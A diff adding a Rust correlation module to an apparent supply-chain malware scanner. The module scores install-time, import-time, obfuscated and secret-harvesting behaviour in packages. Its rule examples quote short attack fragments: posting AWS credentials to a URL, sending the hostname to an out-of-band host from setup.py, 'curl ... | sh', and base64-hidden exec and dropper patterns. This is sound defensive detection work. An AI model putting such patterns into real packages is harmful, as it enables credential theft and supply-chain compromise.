@@ -1,0 +1,347 @@
+//! Correlation: from what each file can do and what it shows, to findings and points.
+//!
+//! A capability alone (network, process, environment) weighs nothing: honest code is
+//! full of them. Weight comes from a threat indicator or threat in the file, from the
+//! combination of a capability with an indicator in the same file (the unit of "code
+//! path" here: a file; see the crate's design notes), from where the file runs
+//! (install-time code weighs more than package code, which weighs more than tests and
+//! docs), and from concealment (behaviour found only after decoding).
+
+use crate::coderules::Signal;
+use crate::source::Role;
+use palisade_core::{Category, Ecosystem, RuleInfo, Severity};
+use std::collections::BTreeSet;
+
+/// What one file (with the text decoded from it) shows.
+#[derive(Debug, Default)]
+pub struct FileSignals {
+    /// Tags of every rule that matched the file's own text.
+    pub tags: BTreeSet<String>,
+    /// Tags of rules that matched only in decoded text.
+    pub hidden_tags: BTreeSet<String>,
+    /// Tags of rules that matched on lines that run at import time (Python module level).
+    pub module_level: BTreeSet<String>,
+    /// `(signal, severity)` of each distinct rule that matched.
+    pub hits: Vec<(Signal, Severity)>,
+}
+
+impl FileSignals {
+    fn has(&self, tag: &str) -> bool {
+        self.tags.contains(tag) || self.hidden_tags.contains(tag)
+    }
+}
+
+macro_rules! correlation {
+    ($name:ident, $id:literal, $sev:ident, $cat:ident, $attack:expr, $summary:literal, $why:literal, $example:literal) => {
+        pub static $name: RuleInfo = RuleInfo {
+            id: $id,
+            category: Category::$cat,
+            severity: Severity::$sev,
+            summary: $summary,
+            why: $why,
+            example: $example,
+            attack: $attack,
+        };
+    };
+}
+
+correlation!(
+    EXFILTRATION,
+    "correlate/secrets-and-network",
+    High,
+    Exfiltration,
+    Some("T1041"),
+    "Secrets (credential files, token variables, the whole environment) and network access in the same file.",
+    "Reading secrets is sometimes honest and so is network access; code that does both is how stolen credentials leave the machine.",
+    "open('~/.aws/credentials').read() ... requests.post(url, data=creds)"
+);
+correlation!(
+    RECON,
+    "correlate/host-data-and-network",
+    High,
+    Exfiltration,
+    Some("T1082"),
+    "Host or user information and network access in install-time code.",
+    "Sending the host name and user name home at install time is the signature of dependency-confusion probes and the first step of targeted attacks.",
+    "setup.py: requests.get('https://x.oast.fun', params={'h': socket.gethostname()})"
+);
+correlation!(
+    INSTALL_NETWORK,
+    "correlate/install-time-network",
+    High,
+    InstallTime,
+    Some("T1195.002"),
+    "Install-time or build-time code uses the network.",
+    "Code that runs on installation should not phone home or download anything: every machine that installs the package runs it, before anyone has reviewed it.",
+    "class PostInstall(install): def run(self): urllib.request.urlopen(URL)"
+);
+correlation!(
+    INSTALL_DOWNLOAD,
+    "correlate/install-time-download",
+    Medium,
+    InstallTime,
+    Some("T1195.002"),
+    "An npm install script uses the network.",
+    "Many npm packages download a prebuilt binary at install time, so this is suspicious rather than damning alone; with host data, secrets or exfiltration endpoints it is how npm malware phones home.",
+    "install.js: https.get(binaryUrl, ...)"
+);
+correlation!(
+    IMPORT_TIME_ACTION,
+    "correlate/import-time-network",
+    High,
+    ImportTime,
+    Some("T1071"),
+    "Module-level Python code (run on every import) uses the network.",
+    "Libraries make network calls when asked to; code that calls out as soon as the package is imported acts on every program that imports it, unasked.",
+    "__init__.py: requests.get('https://x/' + socket.gethostname())"
+);
+correlation!(
+    INSTALL_OVERRIDE,
+    "correlate/install-command-runs-code",
+    Critical,
+    InstallTime,
+    Some("T1195.002"),
+    "A setup.py install, develop or egg_info command is overridden to run processes, network calls or dynamic code.",
+    "Overriding the install command is how PyPI malware runs its payload during `pip install`; honest packages customise build steps, not the install command, and rarely spawn programs from it.",
+    "class PostInstall(install): def run(self): os.system('...'); install.run(self)"
+);
+correlation!(
+    INSTALL_PROCESS,
+    "correlate/install-time-process",
+    Medium,
+    InstallTime,
+    Some("T1059"),
+    "Install-time code starts other programs.",
+    "Build steps sometimes call compilers, but droppers and probes start shells from setup.py, npm scripts and build.rs too.",
+    "setup.py: os.system('curl ... | sh')"
+);
+correlation!(
+    INSTALL_EXEC,
+    "correlate/install-time-dynamic-code",
+    Medium,
+    InstallTime,
+    Some("T1059.006"),
+    "Install-time code runs dynamically built code (exec, eval).",
+    "Install hooks that evaluate code they build at run time are hiding what they do from the reader of the hook.",
+    "setup.py: exec(some_variable)"
+);
+correlation!(
+    DECODE_EXEC,
+    "correlate/decode-then-execute",
+    High,
+    Concealment,
+    Some("T1027"),
+    "The same file decodes data and executes dynamic code.",
+    "Decoding followed by exec or eval is the commonest way to smuggle a payload past review.",
+    "data = base64.b64decode(blob); exec(data)"
+);
+correlation!(
+    HIDDEN_BEHAVIOUR,
+    "correlate/hidden-behaviour",
+    Critical,
+    Concealment,
+    Some("T1027"),
+    "Behaviour (network, processes, code execution, secrets) appears only after decoding an encoded literal.",
+    "Honest code has no reason to encode what it does; capabilities found only in decoded text were hidden on purpose.",
+    "exec(base64.b64decode('aW1wb3J0IHNvY2tldC...'))  # decodes to a reverse shell"
+);
+correlation!(
+    DOWNLOAD_RUN,
+    "correlate/download-write-run",
+    High,
+    Download,
+    Some("T1105"),
+    "The same file downloads, writes files and starts programs.",
+    "Fetch, write, run is the shape of a dropper installing a second stage.",
+    "urlretrieve(url, p); os.chmod(p, 0o755); subprocess.Popen([p])"
+);
+correlation!(
+    OBFUSCATED_ACTION,
+    "correlate/obfuscated-code-with-capabilities",
+    High,
+    Concealment,
+    Some("T1027"),
+    "Obfuscated code in a file that also uses the network, processes or dynamic execution.",
+    "Obfuscation is rare in published source; combined with the ability to act it hides what that action is.",
+    "var _0x3a=['\\x68\\x74\\x74\\x70'];require(_0x1f(0x0))[_0x1f(0x1)](...)"
+);
+
+pub static ALL: &[&RuleInfo] = &[
+    &EXFILTRATION,
+    &RECON,
+    &INSTALL_NETWORK,
+    &INSTALL_DOWNLOAD,
+    &IMPORT_TIME_ACTION,
+    &INSTALL_OVERRIDE,
+    &INSTALL_PROCESS,
+    &INSTALL_EXEC,
+    &DECODE_EXEC,
+    &HIDDEN_BEHAVIOUR,
+    &DOWNLOAD_RUN,
+    &OBFUSCATED_ACTION,
+];
+
+/// Most a file can weigh, before its role weight, on capabilities and their placement
+/// alone (install-time network, module-level calls): suspicious, never malicious.
+pub const PLACEMENT_ONLY_CAP: f64 = 3.5;
+
+/// Whether a correlation points at intent (a threat indicator, hiding, harvesting)
+/// rather than only at where a capability runs.
+pub fn is_indicative(rule: &RuleInfo) -> bool {
+    ![
+        INSTALL_NETWORK.id,
+        INSTALL_DOWNLOAD.id,
+        IMPORT_TIME_ACTION.id,
+        INSTALL_PROCESS.id,
+        INSTALL_EXEC.id,
+    ]
+    .contains(&rule.id)
+}
+
+/// Points a matching rule adds to its file, before the role weight.
+pub fn rule_points(signal: Signal, severity: Severity) -> f64 {
+    match (signal, severity) {
+        (Signal::Capability, _) => 0.0,
+        (Signal::Indicator, Severity::Info) => 0.0,
+        (Signal::Indicator, Severity::Low) => 0.5,
+        (Signal::Indicator, Severity::Medium) => 1.5,
+        (Signal::Indicator, Severity::High) => 3.0,
+        (Signal::Indicator, Severity::Critical) => 5.0,
+        (Signal::Threat, Severity::Critical) => 8.0,
+        (Signal::Threat, Severity::High) => 6.0,
+        (Signal::Threat, _) => 4.0,
+    }
+}
+
+/// Points of a correlation finding, before the role weight.
+pub fn correlation_points(rule: &RuleInfo) -> f64 {
+    match rule.severity {
+        Severity::Critical => 5.0,
+        Severity::High => 3.5,
+        Severity::Medium => 2.0,
+        _ => 0.5,
+    }
+}
+
+/// The correlations that hold for a file in a given role.
+pub fn correlations(
+    signals: &FileSignals,
+    role: Role,
+    ecosystem: Option<Ecosystem>,
+) -> Vec<&'static RuleInfo> {
+    let mut out: Vec<&'static RuleInfo> = Vec::new();
+    let network = signals.has("network");
+    let install = matches!(role, Role::Install | Role::Build);
+    let import_network = signals.module_level.contains("network");
+    let host_data = signals.has("sysinfo") || signals.has("env-dump");
+    let secrets = signals.has("stealer")
+        || signals.has("env-dump")
+        || (signals.has("credentials") && (signals.has("sysinfo") || signals.has("ci-tokens")));
+    if network && secrets {
+        out.push(&EXFILTRATION);
+    }
+    if network && host_data && (install || import_network) {
+        out.push(&RECON);
+    }
+    if install && network {
+        out.push(if ecosystem == Some(Ecosystem::Npm) {
+            &INSTALL_DOWNLOAD
+        } else {
+            &INSTALL_NETWORK
+        });
+    }
+    if import_network && !install {
+        out.push(&IMPORT_TIME_ACTION);
+    }
+    let acts = signals.has("process") || network || signals.has("exec");
+    if signals.has("install-override") && acts {
+        out.push(&INSTALL_OVERRIDE);
+    } else {
+        if install && signals.has("process") {
+            out.push(&INSTALL_PROCESS);
+        }
+        if install && signals.has("exec") {
+            out.push(&INSTALL_EXEC);
+        }
+    }
+    if signals.tags.contains("exec") && signals.tags.contains("decode") {
+        out.push(&DECODE_EXEC);
+    }
+    let acting = [
+        "network",
+        "process",
+        "exec",
+        "credentials",
+        "env-dump",
+        "download-exec",
+        "persistence",
+        "sysinfo",
+    ];
+    if acting.iter().any(|t| signals.hidden_tags.contains(*t)) {
+        out.push(&HIDDEN_BEHAVIOUR);
+    }
+    let dropper = install
+        || import_network
+        || signals.has("download-exec")
+        || signals.has("exe-write")
+        || signals.has("obfuscation");
+    if network && signals.has("file-write") && signals.has("process") && dropper {
+        out.push(&DOWNLOAD_RUN);
+    }
+    if signals.has("obfuscation") && (network || signals.has("process") || signals.has("exec")) {
+        out.push(&OBFUSCATED_ACTION);
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn signals(tags: &[&str], hidden: &[&str]) -> FileSignals {
+        FileSignals {
+            tags: tags.iter().map(|s| s.to_string()).collect(),
+            hidden_tags: hidden.iter().map(|s| s.to_string()).collect(),
+            module_level: Default::default(),
+            hits: Vec::new(),
+        }
+    }
+
+    fn ids(s: &FileSignals, role: Role) -> Vec<&'static str> {
+        correlations(s, role, Some(Ecosystem::PyPI))
+            .iter()
+            .map(|r| r.id)
+            .collect()
+    }
+
+    #[test]
+    fn capabilities_alone_correlate_to_nothing_in_package_code() {
+        assert!(
+            ids(
+                &signals(&["network", "process", "env", "sysinfo"], &[]),
+                Role::Import
+            )
+            .is_empty()
+        );
+    }
+
+    #[test]
+    fn the_same_capabilities_at_install_time_do() {
+        let found = ids(&signals(&["network", "sysinfo"], &[]), Role::Install);
+        assert!(found.contains(&"correlate/install-time-network"));
+        assert!(found.contains(&"correlate/host-data-and-network"));
+    }
+
+    #[test]
+    fn secrets_with_network_and_hidden_behaviour_anywhere() {
+        assert_eq!(
+            ids(&signals(&["network", "stealer"], &[]), Role::Import),
+            ["correlate/secrets-and-network"]
+        );
+        assert!(ids(&signals(&["network", "credentials"], &[]), Role::Import).is_empty());
+        assert_eq!(
+            ids(&signals(&[], &["process"]), Role::Auxiliary),
+            ["correlate/hidden-behaviour"]
+        );
+    }
+}
